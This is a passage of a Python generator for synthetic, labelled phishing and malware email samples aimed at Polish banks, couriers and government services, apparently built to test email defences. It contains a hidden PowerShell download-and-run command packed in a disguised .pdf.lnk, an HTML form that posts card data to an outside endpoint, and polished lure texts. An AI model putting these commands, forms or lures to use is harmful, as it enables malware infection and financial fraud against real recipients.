    return (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset={charset}"><title>{title}</title></head>\n'
            f'<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#333">\n'
            f'<div style="max-width:580px;margin:0 auto;border:1px solid #e3e3e3">\n'
            f'<div style="background:{colour};color:#fff;padding:16px 22px;font-size:20px;font-weight:bold">{brand}</div>\n'
            f'<div style="padding:20px 24px">\n{body}</div>\n'
            f'<div style="padding:12px 24px;font-size:11px;color:#999;border-top:1px solid #eee">{footer}</div>\n'
            f'</div>\n</body></html>\n')


def outlook_html(paras: list[str], signature: list[str] = (), lang: str = "PL", quoted: str = "") -> str:
    """HTML as Outlook for Windows (Word engine) writes it."""
    ps = "".join(f'<p class="MsoNormal">{p}<o:p></o:p></p>\n' if p else '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
                 for p in paras)
    sig = "".join(f'<p class="MsoNormal"><span style="font-size:9.0pt;color:#595959">{s}<o:p></o:p></span></p>\n'
                  for s in signature)
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            '@font-face {font-family:"Cambria Math";}\n@font-face {font-family:Aptos;}\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Aptos",sans-serif;}\n'
            'a:link, span.MsoHyperlink {mso-style-priority:99;color:#467886;text-decoration:underline;}\n'
            '.MsoChpDefault {mso-style-type:export-only;}\n@page WordSection1 {size:612.0pt 792.0pt;margin:70.85pt 70.85pt 70.85pt 70.85pt;}\n'
            'div.WordSection1 {page:WordSection1;}\n--></style>\n</head>\n'
            f'<body lang="{lang}" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n'
            f'{ps}<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n{sig}{quoted}</div>\n</body>\n</html>\n')


def gmail_html(paras: list[str], quoted: str = "") -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    return f'<div dir="ltr">{inner}</div>{quoted}\n'


def gmail_boundary(key: str) -> str:
    return "000000000000" + hx(key + "gb", 16)


def outlook_boundary(key: str, n: int = 0) -> str:
    return f"_00{n}_{HX(key + 'ob', 8)}{HX(key + 'ob2', 4)}MB{num(key + 'obn', 1000, 9999)}eurprd0{num(key + 'obr', 1, 9)}prod_"


def msgid_outlook(key: str) -> str:
    n = num(key + "mo", 1, 9)
    box = f"{['AM', 'DB', 'PA', 'VI', 'DU'][n % 5]}{num(key + 'mp', 1, 9)}PR0{n}MB{num(key + 'mq', 1000, 9999)}"
    return f"<{box}{HX(key + 'mid', 16)}{HX(key + 'mid2', 8)}@{box}.eurprd0{n}.prod.outlook.com>"


def msgid_gmail(key: str) -> str:
    return f"<CA{an(key + 'g1', 2)}{b64s(key + 'g2', 40).replace('/', '_')}@mail.gmail.com>"


# ---------------------------------------------------------------- assembling and checking

SAMPLES: list[tuple[str, str, str, bytes]] = []


def head(provider: str, a: Auth, rcpt: str, sent: datetime, key: str, hops: list[str], top: list[str]) -> str:
    """The whole header block: the receiver's lines, the sender's hops, then the message's own headers."""
    lines = receive(provider, a, rcpt, sent, key) + [h.replace("{rcpt}", rcpt) for h in hops] + top
    return "\n".join(lines)


def add(stem: str, folder: str, description: str, headers: str, body) -> None:
    data = message(headers, body)
    SAMPLES.append((stem, folder, description, data))


def check(stem: str, data: bytes) -> None:
    for number, line in enumerate(data.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=policy.default).parsebytes(data)
    assert not msg.defects, f"{stem}: {msg.defects}"
    for name in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[name] is not None, f"{stem}: no {name}"
        assert not msg[name].defects, f"{stem}: {name} defects {msg[name].defects}"
    header_block = data.split(b"\n\n", 1)[0]
    assert all(b < 128 for b in header_block), f"{stem}: raw non-ASCII in headers"
    for part in msg.walk():
        assert not part.defects, f"{stem}: part defects {part.defects}"
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), f"{stem}: empty text part"
            raw = part.get_payload(decode=True)
            try:
                raw.decode(part.get_content_charset() or "ascii")
            except (UnicodeDecodeError, LookupError) as error:
                raise AssertionError(f"{stem}: text part does not decode: {error}") from None


def phpmailer_top(key: str, domain: str, sent: datetime) -> list[str]:
    return [f"Date: {rfc(sent)}", f"Message-ID: <{an(key + 'pm', 43)}@{domain}>",
            "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]


def phpmailer_boundary(key: str) -> str:
    return "b1=_" + an(key + "pmb", 43)


def vps(key: str, prefix: str) -> str:
    return f"{prefix}.{num(key + 'v3', 2, 250)}.{num(key + 'v4', 2, 250)}"


# ================================================================ attacks: Poland


def pl_pkobp_lookalike() -> None:
    stem = "b48-phish-pkobp-ipko-lookalike"
    sent = T("2025-02-11 07:42:13 +0100")
    dom = "ipko-bezpieczenstwo.pl"
    ip = vps(stem, "185.225")
    a = Auth(ip=ip, helo=f"mail.{dom}", rdns=f"mail.{dom}", mailfrom=f"powiadomienia@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    rcpt = "marek.wisniewski78@wp.pl"
    link = f"https://{dom}/logowanie/?sid={lo(stem + 'l', 24)}"
    paras = [
        "Szanowny Kliencie,",
        "w związku z wdrożeniem nowych wymogów bezpieczeństwa wynikających z dyrektywy PSD2 prosimy o ponowne "
        "potwierdzenie danych dostępowych do serwisu <b>iPKO</b>.",
        "Brak weryfikacji w ciągu <b>24 godzin</b> spowoduje czasowe ograniczenie dostępu do rachunku oraz "
        "zablokowanie płatności BLIK i kart.",
        "Weryfikacja zajmuje mniej niż 2 minuty.",
    ]
    html = kit_html("iPKO - weryfikacja", "#003574", "PKO Bank Polski", paras, ("Potwierdź dane w iPKO", link),
                    "PKO Bank Polski S.A., ul. Puławska 15, 02-515 Warszawa. Wiadomość wygenerowana automatycznie, "
                    "prosimy na nią nie odpowiadać.")
    plain = strip_html(html)
    top = [f"To: {rcpt}", f"From: {addr('PKO Bank Polski', a.mailfrom)}",
           f"Subject: {ew('Ważne: wymagana weryfikacja dostępu do serwisu iPKO', 'utf-8', 'B')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    hops = [hop("[127.0.0.1]", "127.0.0.1", f"mail.{dom}", sent, stem, rdns="localhost", via="ESMTP")
            .replace("[127.0.0.1] (localhost [127.0.0.1])", "localhost (localhost [127.0.0.1])"),
            dkim_sig(dom, "default", stem, sent=sent)]
    add(stem, "phishing", "Fake PKO BP iPKO 'PSD2 verification' notice from a look-alike domain with its own SPF/DKIM, "
        "linking to a credential page on that domain.", head("wp", a, rcpt, sent, stem, hops, top), body)


def pl_mbank_3ds() -> None:
    stem = "b48-phish-mbank-3ds-pages"
    sent = T("2025-06-03 13:05:44 +0200")
    rcpt = "k.zielinska.krakow@gmail.com"
    esp_dom = "eventoshub.com.br"
    sub = "em8712." + esp_dom
    mailfrom = f"bounces+3184452-8f2a-{rcpt.replace('@', '=')}@{sub}"
    a = Auth(ip=f"149.72.{num(stem, 1, 250)}.{num(stem + 'x', 1, 250)}", helo=f"o{num(stem + 'o', 1, 9)}.ptr{num(stem + 'p', 1000, 9999)}.{esp_dom}",
             rdns=f"o{num(stem + 'o', 1, 9)}.ptr{num(stem + 'p', 1000, 9999)}.{esp_dom}", mailfrom=mailfrom, hfrom=esp_dom,
             dkim=((esp_dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")), dmarc="pass", policy="none")
    target = f"https://mbank-3ds-potwierdzenie.pages.dev/?c={lo(stem + 'c', 16)}"
    track = f"https://u3184452.ct.sendgrid.net/ls/click?upn=u001.{b64s(stem + 'upn', 120).replace('+', '-').replace('/', '_')}"
    paras = [
        "Dzień dobry,",
        "transakcja kartą <b>Visa Debit **** 5521</b> na kwotę <b>1 249,00 PLN</b> w sklepie "
        "<b>ALLEGRO*PL</b> została wstrzymana i oczekuje na potwierdzenie w systemie 3-D Secure.",
        "Jeżeli nie potwierdzisz lub nie anulujesz transakcji w ciągu 12 godzin, karta zostanie zablokowana "
        "ze względów bezpieczeństwa.",
    ]
    html = kit_html("mBank - 3D Secure", "#c8102e", "mBank", paras, ("Potwierdź lub anuluj transakcję", track),
                    "mBank S.A., ul. Prosta 18, 00-850 Warszawa. Ta wiadomość została wysłana automatycznie.")
    html = html.replace("</body>", f'<img src="https://u3184452.ct.sendgrid.net/wf/open?upn=u001.{an(stem + "o", 60)}" '
                                   f'alt="" width="1" height="1" border="0"></body>')
    plain = strip_html(html).replace(track, target)
    top = [f"From: {addr('mBank', 'powiadomienia@' + esp_dom)}", f"Subject: {ew('Transakcja kartą wymaga potwierdzenia 3-D Secure')}",
           f"To: {rcpt}", f"Date: {rfc(sent)}", f"Message-ID: <{b64s(stem + 'mid', 22).replace('/', '_').replace('+', '-')}@geopod-ismtpd-{num(stem + 'g', 1, 40)}>",
           "MIME-Version: 1.0"]
    body = alt(hx(stem + "bnd", 64), qp(plain), qp(html, "html"))
    hops = [dkim_sig(esp_dom, "s1", stem, h="from:mime-version:subject:to:content-type:cc:content-type:from:subject:to", sent=sent),
            dkim_sig("sendgrid.info", "smtpapi", stem + "sg", h="from:mime-version:subject:to:content-type:cc:content-type:from:subject:to", sent=sent),
            f"Received: by filterdrecv-{hx(stem + 'fd', 10)}-{lo(stem + 'fd2', 5)} with SMTP id filterdrecv-{hx(stem + 'fd', 10)}-{lo(stem + 'fd2', 5)}-1-"
            f"{HX(stem + 'fd3', 8)}-{num(stem + 'fd4', 10, 99)}\n        {utc(sent):%Y-%m-%d %H:%M:%S}.{num(stem + 'ns', 100000000, 999999999)} +0000 UTC m=+{num(stem + 'up', 100000, 999999)}.{num(stem + 'up2', 100000000, 999999999)}",
            f"Received: from [{uid(stem + 'sgh')[:8]}] (unknown)\n\tby geopod-ismtpd-{num(stem + 'g', 1, 40)} (SG) with HTTP\n\tid {b64s(stem + 'sgid', 22).replace('/', '_').replace('+', '-')}\n"
            f"\tfor <{rcpt}>;\n\t{rfc(utc(sent))}"]
    add(stem, "phishing", "mBank 3-D Secure 'confirm the held card transaction' lure sent through an abused SendGrid account "
        "(aligned to an unrelated Brazilian domain), click-tracked to a pages.dev credential kit.",
        head("gmail", a, rcpt, sent, stem, hops, top), body)


def pl_inpost() -> None:
    stem = "b48-phish-inpost-doplata-short"
    sent = T("2024-11-19 18:22:05 +0100")
    rcpt = "anna.kowalczyk@interia.pl"
    dom = "gabinet-stomatologiczny-lodz.pl"
    a = Auth(ip=f"46.242.{num(stem, 128, 250)}.{num(stem + 'b', 2, 250)}", helo="s112.cyber-folks.pl", rdns="s112.cyber-folks.pl",
             mailfrom=f"recepcja@{dom}", hfrom=dom, spf="pass", dkim=((dom, "x", "pass"),), dmarc="none")
    short = "https://shorturl.at/dkBQ4"
    html = (
        '<html><head><meta charset="utf-8"></head><body style="font-family:Arial;background:#f5f5f5">'
        '<div style="max-width:560px;margin:0 auto;background:#fff">'
        '<div style="background:#ffcd00;padding:18px;font-size:24px;font-weight:bold;color:#222">InPost</div>'
        '<div style="padding:22px;font-size:14px;color:#333">'
        '<p>Cześć!</p><p>Twoja przesyłka <b>nr 620498157734210119835460</b> została wstrzymana w sortowni '
        'z powodu niedopłaty za gabaryt.</p>'
        '<p>Aby paczka trafiła do wybranego Paczkomatu, uiść dopłatę w wysokości <b>1,99 zł</b>. '
        'Nieopłacone przesyłki wracają do nadawcy po 48 godzinach.</p>'
        f'<p style="text-align:center"><a href="{short}" style="background:#222;color:#ffcd00;padding:12px 28px;'
        'text-decoration:none;font-weight:bold">Opłać i śledź przesyłkę</a></p>'
        '<p>Pozdrawiamy,<br>Zespół InPost</p></div>'
        '<div style="font-size:10px;color:#999;padding:12px">InPost S.A., ul. Pana Tadeusza 4, 30-727 Kraków</div>'
        '</div></body></html>\n')
    plain = strip_html(html)
    top = [f"Date: {rfc(sent)}", f"To: {rcpt}", f"From: {addr('InPost', 'recepcja@' + dom)}",
           f"Subject: {ew('Twoja przesyłka została wstrzymana – wymagana dopłata 1,99 zł', 'utf-8', 'Q')}",
           f"Message-ID: <{hx(stem + 'm', 32)}@{dom}>", "X-Mailer: Roundcube Webmail/1.6.9"]
    # Roundcube on a compromised hosting mailbox
    body = alt(f"=_{hx(stem + 'rb', 32)}", qp(plain), qp(html, "html"))
    hops = [hop(f"[{num(stem + 'u1', 80, 200)}.{num(stem + 'u2', 1, 250)}.{num(stem + 'u3', 1, 250)}.{num(stem + 'u4', 1, 250)}]",
                f"{num(stem + 'u1', 80, 200)}.{num(stem + 'u2', 1, 250)}.{num(stem + 'u3', 1, 250)}.{num(stem + 'u4', 1, 250)}",
                "s112.cyber-folks.pl", sent, stem, via="ESMTPSA", mta="(Exim 4.98)", idstyle="exim", offset=-1),
            dkim_sig(dom, "x", stem, sent=sent)]
    add(stem, "phishing", "InPost 'parcel held, pay 1.99 zł' fee lure sent from a compromised dental clinic mailbox via "
        "Roundcube, with a shortener link to the card-harvesting page.", head("interia", a, rcpt, sent, stem, hops, top), body)


def pl_poczta_html() -> None:
    stem = "b48-phish-pocztapolska-html-form"
    sent = T("2025-09-08 10:14:51 +0200")
    rcpt = "jan.malinowski@onet.pl"
    dom = "poczta-polska-awizo.com"
    a = Auth(ip=vps(stem, "91.92"), helo="vps-3318.hostinger-srv.com", rdns=None, mailfrom=f"awizo@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    nr = "00659007734518"
    form_html = (
        '<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"><title>Poczta Polska - e-Awizo</title>\n'
        '<style>body{font-family:Arial;background:#f1f1f1}.box{max-width:420px;margin:40px auto;background:#fff;padding:24px;'
        'border-top:6px solid #e30613}input{width:100%;padding:9px;margin:6px 0 12px;border:1px solid #ccc}'
        'button{background:#e30613;color:#fff;border:0;padding:12px;width:100%;font-size:15px}</style></head>\n'
        '<body><div class="box"><h2>e-Awizo</h2>\n'
        f'<p>Przesyłka nr <b>{nr}</b> oczekuje na ponowne doręczenie. Opłata za ponowną awizację: <b>2,49 zł</b>.</p>\n'
        '<form id="f" action="https://pp-awizo-platnosc.top/api/pay.php" method="post">\n'
        '<input name="imie" placeholder="Imię i nazwisko" required>\n<input name="adres" placeholder="Adres doręczenia" required>\n'
        '<input name="tel" placeholder="Numer telefonu" required>\n<input name="karta" placeholder="Numer karty" maxlength="19" required>\n'
        '<input name="data" placeholder="MM/RR" required>\n<input name="cvv" placeholder="CVV" maxlength="4" required>\n'
        '<button type="submit">Zapłać 2,49 zł</button></form>\n'
        '<script>document.getElementById("f").addEventListener("submit",function(e){e.preventDefault();'
        'fetch(this.action,{method:"POST",body:new FormData(this)}).then(function(){'
        'location.href="https://www.pocztex.pl/";});});</script>\n'
        '</div></body></html>\n')
    plain = ("Szanowny Kliencie,\n\nnie udało się doręczyć Twojej przesyłki nr " + nr + " z powodu niepełnego adresu.\n"
             "W załączniku znajduje się e-Awizo. Otwórz plik, aby zaktualizować adres i opłacić ponowne doręczenie "
             "(2,49 zł).\n\nBrak aktualizacji w ciągu 3 dni roboczych spowoduje zwrot przesyłki do nadawcy.\n\n"
             "Poczta Polska S.A.\n")
    top = [f"From: {addr('Poczta Polska', 'awizo@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Awizo: przesyłka nr ' + nr + ' oczekuje na ponowne doręczenie')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = Multi("mixed", phpmailer_boundary(stem), [qp(plain), html_att(f"eAwizo_{nr}.html", form_html)])
    add(stem, "phishing", "Poczta Polska e-Awizo redelivery lure with an attached HTML form that posts name, address and "
        "card data to an external endpoint.", head("onet", a, rcpt, sent, stem, [], top), body)


def pl_olx_buyer() -> None:
    stem = "b48-phish-olx-kupujacy-dostawa"
    sent = T("2025-04-27 16:31:09 +0200")
    rcpt = "tomasz.nowicki91@gmail.com"
    user = "kasia.wrona.1994@gmail.com"
    a = gmail_sender_auth(user, stem)
    link = "https://olx.pl-bezpieczna-transakcja.store/oferta/4582193/odbior"
    plain = ("Dzień dobry,\n\nkupiłam Pana rower Kross Hexagon 5.0 przez OLX Przesyłki, płatność już przeszła "
             "(850 zł + dostawa, opłaciłam ją sama).\nKurier odbierze rower jutro, tylko musi Pan jeszcze potwierdzić "
             "odbiór środków na swoją kartę, inaczej OLX zwraca pieniądze. Tu jest link który dostałam od OLX:\n\n"
             f"{link}\n\nProszę dać znać jak Pan potwierdzi, bo bardzo mi zależy na czasie :)\n\nPozdrawiam\nKasia\n")
    html = gmail_html(["Dzień dobry,", "",
                       "kupiłam Pana rower Kross Hexagon 5.0 przez OLX Przesyłki, płatność już przeszła (850 zł + dostawa, "
                       "opłaciłam ją sama).",
                       "Kurier odbierze rower jutro, tylko musi Pan jeszcze potwierdzić odbiór środków na swoją kartę, "
                       "inaczej OLX zwraca pieniądze. Tu jest link który dostałam od OLX:", "",
                       f'<a href="{link}">{link}</a>', "",
                       "Proszę dać znać jak Pan potwierdzi, bo bardzo mi zależy na czasie :)", "", "Pozdrawiam", "Kasia"])
    top = ["MIME-Version: 1.0", f"From: {addr('Katarzyna Wrona', user)}", f"Date: {rfc(sent)}",
           f"Message-ID: {msgid_gmail(stem)}", f"Subject: {ew('Rower Kross Hexagon 5.0 – OLX')}", f"To: {rcpt}"]
    body = alt(gmail_boundary(stem), qp(plain), qp(html, "html"))
    hops = gmail_sender_hops(stem, sent)
    add(stem, "phishing", "OLX buyer scam from a free Gmail account: 'I paid via OLX delivery, confirm receipt of the funds' "
        "with a link to a fake OLX payout page on a look-alike host.", head("gmail", a, rcpt, sent, stem, hops, top), body)


def pl_mobywatel_qr() -> None:
    stem = "b48-phish-mobywatel-qr"
    sent = T("2025-10-21 08:03:17 +0200")
    rcpt = "ewa.sadowska@o2.pl"
    dom = "mobywatel-gov.pl"
    a = Auth(ip=f"54.240.{num(stem, 1, 120)}.{num(stem + 'b', 1, 250)}", helo=f"a{num(stem, 1, 9)}-{num(stem + 'h', 10, 99)}.smtp-out.eu-central-1.amazonses.com",
             rdns=f"a{num(stem, 1, 9)}-{num(stem + 'h', 10, 99)}.smtp-out.eu-central-1.amazonses.com",
             mailfrom=f"010701{hx(stem + 'ses', 10)}-{uid(stem + 'ses2')}-000000@eu-central-1.amazonses.com", hfrom=dom,
             spf="pass", dkim=((dom, "ses" + lo(stem + 'sel', 6), "pass"), ("amazonses.com", "e3vmnk3ymgtl3x2yifaf6lmrzx6bc6a4", "pass")),
             dmarc="none")
    qr_url = f"https://{dom}/weryfikacja?t={lo(stem + 't', 20)}"
    cid = f"qr{hx(stem + 'cid', 12)}@{dom}"
    html = esp_html("pl", "mObywatel", "mObywatel", "#0052a5", [
        "Dzień dobry,",
        "Twój <b>mDowód</b> w aplikacji mObywatel wymaga ponownej weryfikacji tożsamości. Zgodnie z nowymi przepisami "
        "dokumenty niezweryfikowane do <b>30.10.2025</b> zostaną unieważnione w aplikacji.",
        "Zeskanuj poniższy kod QR telefonem, na którym masz zainstalowaną aplikację mObywatel, i postępuj zgodnie "
        "z instrukcjami.",
        f'<img src="cid:{cid}" width="220" height="220" alt="Kod QR">',
        "Weryfikacja trwa około 3 minut. Przygotuj dowód osobisty i kartę płatniczą do potwierdzenia tożsamości.",
    ], footer=["Ministerstwo Cyfryzacji, ul. Królewska 27, 00-060 Warszawa",
               "Wiadomość wygenerowana automatycznie – prosimy nie odpowiadać."])
    plain = strip_html(html).replace("Kod QR", "[kod QR]")
    related = Multi("related", f"----=_Part_{num(stem + 'r', 100000, 999999)}_{num(stem + 'r2', 100000000, 999999999)}.1761026597{num(stem + 'r3', 100, 999)}",
                    [qp(html, "html"), inline_img("image/png", "qr.png", F.qr_png(qr_url), cid)])
    body = Multi("alternative", f"----=_Part_{num(stem + 'a', 100000, 999999)}_{num(stem + 'a2', 100000000, 999999999)}.1761026597{num(stem + 'a3', 100, 999)}",
                 [qp(plain), related])
    top = [f"From: {addr('mObywatel', 'powiadomienia@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Twój mDowód wymaga ponownej weryfikacji do 30.10.2025')}",
           f"Date: {rfc(sent)}", f"Message-ID: <010701{hx(stem + 'ses', 10)}-{uid(stem + 'ses2')}-000000@eu-central-1.amazonses.com>",
           "MIME-Version: 1.0", "Feedback-ID: ::1.eu-central-1.{}:AmazonSES".format(b64s(stem + "fb", 43)),
           "X-SES-Outgoing: 2025.10.21-54.240.0.1"]
    hops = [dkim_sig(dom, a.dkim[0][1], stem, sent=sent), dkim_sig("amazonses.com", a.dkim[1][1], stem + "ses", sent=sent)]
    add(stem, "phishing", "mObywatel 'mDowód re-verification' notice from a look-alike gov domain sent via Amazon SES, "
        "with the only link hidden in an inline QR code image.", head("o2", a, rcpt, sent, stem, hops, top), body)


def pl_eurzad() -> None:
    stem = "b48-phish-eurzad-zwrot-pit"
    sent = T("2025-03-18 11:47:22 +0100")
    rcpt = "biuro@kancelaria-nowak.pl"
    dom = "przedszkole-tecza.edu.pl"
    a = Auth(ip=f"213.189.{num(stem, 50, 60)}.{num(stem + 'b', 2, 250)}", helo="smtp.nazwa.pl", rdns=f"server{num(stem, 100000, 999999)}.nazwa.pl",
             mailfrom=f"sekretariat@{dom}", hfrom=dom, spf="pass", dkim=((dom, "default", "pass"),), dmarc="pass", policy="none")
    link = f"https://www.hotel-pod-lipami.pl/wp-content/uploads/2025/03/kas/index.php?nip={num(stem + 'n', 1000000000, 9999999999)}"
    html = outlook_html([
        "Szanowni Państwo,", "",
        "Krajowa Administracja Skarbowa informuje, że w wyniku weryfikacji zeznania <b>PIT-37 za rok 2024</b> "
        "stwierdzono nadpłatę podatku w wysokości <b>1 436,00 zł</b>.",
        "Aby zwrot został zrealizowany na wskazany rachunek bankowy, należy potwierdzić dane w serwisie "
        f'e-Urząd Skarbowy: <a href="{link}">https://www.podatki.gov.pl/e-urzad-skarbowy/zwrot</a>',
        "Potwierdzenie należy wykonać w terminie 5 dni od otrzymania niniejszej wiadomości. Po tym terminie "
        "kwota zostanie przekazana na poczet zaległości.", "",
        "Z poważaniem,", "Dział Obsługi Podatnika", "Krajowa Administracja Skarbowa",
    ])
    plain = strip_html(html)
    top = [f"From: {addr('e-Urząd Skarbowy', 'sekretariat@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Zwrot nadpłaty podatku PIT-37 za 2024 r. – kwota 1 436,00 zł')}",
           f"Date: {rfc(sent)}", f"Message-ID: <{hx(stem + 'm', 8)}{hx(stem + 'm2', 8)}$@{dom}>".replace("$", "a"),
           "MIME-Version: 1.0", "X-Mailer: Microsoft Outlook 16.0", "Thread-Index: " + b64s(stem + "ti", 30) + "==",
           "Content-Language: pl"]
    body = alt(f"----=_NextPart_000_{HX(stem + 'np', 4)}_01DB97F1.{HX(stem + 'np2', 8)}", qp(plain), qp(html, "html"))
    hops = [hop(f"DESKTOP-{HX(stem + 'pc', 7)}", f"{num(stem + 'c1', 83, 95)}.{num(stem + 'c2', 1, 250)}.{num(stem + 'c3', 1, 250)}.{num(stem + 'c4', 1, 250)}",
                "smtp.nazwa.pl", sent, stem, via="ESMTPSA", mta="(nazwa.pl)", offset=-1),
            dkim_sig(dom, "default", stem, sent=sent)]
    add(stem, "phishing", "e-Urząd Skarbowy PIT tax-refund lure sent from a compromised kindergarten mailbox (fully aligned), "
        "whose displayed podatki.gov.pl link points to a kit on a hacked WordPress site.",
        head("m365", a, rcpt, sent, stem, hops, top), body)


def pl_ceo() -> None:
    stem = "b48-phish-pl-ceo-przelew"
    sent = T("2025-05-14 09:21:40 +0200")
    rcpt = "a.wojcik@termo-instal.com.pl"
    dom = "termo-lnstal.com.pl"
    a = Auth(ip=vps(stem, "194.26"), helo=f"mail.{dom}", rdns=f"mail.{dom}", mailfrom=f"piotr.zawadzki@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "mail", "pass"),), dmarc="pass", policy="none")
    plain = ("Pani Agnieszko,\n\nczy jest Pani teraz dostępna? Potrzebuję pilnie zlecić przelew do nowego kontrahenta "
             "(zaliczka za kontrakt, o którym jeszcze nie mówimy w firmie – proszę zachować dyskrecję).\n"
             "Jestem na spotkaniu z zarządem i nie mogę rozmawiać przez telefon, proszę odpisać mailem, "
             "to prześlę dane do przelewu.\n\nPiotr Zawadzki\nPrezes Zarządu\n\nWysłane z iPhone'a\n")
    top = [f"From: {addr('Piotr Zawadzki', a.mailfrom)}", "Content-Transfer-Encoding: quoted-printable", "Mime-Version: 1.0 (1.0)",
           f"Date: {rfc(sent)}", f"Subject: Pilne", f"Message-Id: <{uid(stem + 'apple').upper()}@{dom}>",
           f"To: {addr('Agnieszka Wójcik', rcpt)}", "X-Mailer: iPhone Mail (22E240)"]
    hops = [dkim_sig(dom, "mail", stem, sent=sent)]
    leaf = qp(plain)
    # Apple Mail puts the content headers of a single part at the top level
    hdr = head("m365", a, rcpt, sent, stem, hops, [t for t in top if not t.startswith("Content-Transfer")])
    add(stem, "phishing", "CEO fraud in Polish: the chairman's name on a one-letter look-alike of the company domain "
        "(termo-lnstal) asking the accountant for an urgent, confidential transfer, no link.", hdr, leaf)


def pl_faktura_lnk() -> None:
    stem = "b48-phish-pl-faktura-zip-lnk"
    sent = T("2025-07-22 08:12:09 +0200")
    rcpt = "zamowienia@ekospan.pl"
    dom = "hurtownia-budmax.pl"
    ip = f"83.{num(stem, 1, 30)}.{num(stem + 'b', 1, 250)}.{num(stem + 'c', 2, 250)}"
    a = Auth(ip=ip, helo="DESKTOP-7QJ2L0K", rdns=None, mailfrom=f"ksiegowosc@{dom}", hfrom=dom, spf="softfail",
             dkim=(), dmarc="none")
    fv = "FV/2025/07/0183"
    lnk = F.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                         "-w hidden -nop -ep bypass -c \"$u='https://cdn-budmax-faktury.top/f/0183.png';"
                         "$p=$env:TEMP+'\\fv0183.exe';iwr $u -OutFile $p;Start-Process $p\"")
    z = F.zip_archive([("FV_2025_07_0183.pdf.lnk", lnk)])
    plain = ("Dzień dobry,\n\nw załączniku przesyłamy fakturę VAT nr " + fv + " za dostarczony towar.\n"
             "Termin płatności: 7 dni od daty wystawienia.\nPlik został spakowany ze względu na rozmiar.\n\n"
             "W razie pytań prosimy o kontakt.\n\nPozdrawiamy\nDział Księgowości\nHurtownia Budmax Sp. z o.o.\n"
             "tel. 61 820 44 17\n")
    top = [f"From: {addr('Dział Księgowości Budmax', a.mailfrom, 'iso-8859-2', 'Q')}", f"To: {rcpt}",
           f"Subject: {ew('Faktura VAT ' + fv + ' - termin płatności 7 dni', 'iso-8859-2', 'Q')}",
           f"Date: {rfc(sent)}", f"Message-ID: <{hx(stem + 'm', 20)}$@DESKTOP-7QJ2L0K>".replace("$", ""), "MIME-Version: 1.0",
           "X-Mailer: Microsoft Outlook 16.0"]
    body = Multi("mixed", f"----=_NextPart_000_0001_{HX(stem + 'np', 8)}.{HX(stem + 'np2', 8)}",
                 [qp(plain, charset="iso-8859-2"), attachment("application/x-zip-compressed", "FV_2025_07_0183.zip", z)])
    add(stem, "malware", "Polish 'Faktura VAT' malspam from a residential IP failing SPF, with a zip holding a .pdf.lnk "
        "that runs a hidden PowerShell download.", head("postfix:mail.ekospan.pl:1", a, rcpt, sent, stem, [], top), body)


def pl_reply_chain() -> None:
    stem = "b48-phish-pl-reply-chain-xll"
    sent = T("2025-10-07 14:36:02 +0200")
    rcpt = "m.krawczyk@polmet-serwis.pl"
    dom = "stal-trans.com.pl"
    a = Auth(ip=f"185.253.{num(stem, 212, 215)}.{num(stem + 'b', 2, 250)}", helo="s53.cyber-folks.pl", rdns="s53.cyber-folks.pl",
             mailfrom=f"t.lis@{dom}", hfrom=dom, spf="pass", dkim=((dom, "x", "pass"),), dmarc="pass", policy="quarantine")
    earlier1 = msgid_outlook(stem + "e1")
    earlier2 = f"<{hx(stem + 'e2', 24)}@{dom}>"
    quoted_plain = (
        "\n\n-----Original Message-----\nFrom: Michał Krawczyk <m.krawczyk@polmet-serwis.pl>\n"
        "Sent: Friday, October 3, 2025 11:02 AM\nTo: Tomasz Lis <t.lis@stal-trans.com.pl>\n"
        "Subject: RE: Zamówienie 4471/2025 – potwierdzenie terminu dostawy\n\n"
        "Panie Tomaszu,\nczy termin 14.10 jest nadal aktualny? Potrzebujemy blach 3 mm w pierwszej kolejności.\n"
        "Pozdrawiam\nMichał Krawczyk\n\n"
        "-----Original Message-----\nFrom: Tomasz Lis <t.lis@stal-trans.com.pl>\nSent: Wednesday, October 1, 2025 3:47 PM\n"
        "To: Michał Krawczyk <m.krawczyk@polmet-serwis.pl>\nSubject: Zamówienie 4471/2025 – potwierdzenie terminu dostawy\n\n"
        "Dzień dobry,\npotwierdzam przyjęcie zamówienia 4471/2025, dostawa planowana na 14.10.\nPozdrawiam\nTomasz Lis\n")
    plain = ("Dzień dobry,\n\nw załączeniu przesyłam zaktualizowany harmonogram dostaw i korektę do zamówienia. "
             "Proszę o potwierdzenie do końca dnia.\n\nPozdrawiam\nTomasz Lis\nSTAL-TRANS Sp. z o.o.\n" + quoted_plain)
    quoted_html = "<br>".join(quoted_plain.strip("\n").split("\n"))
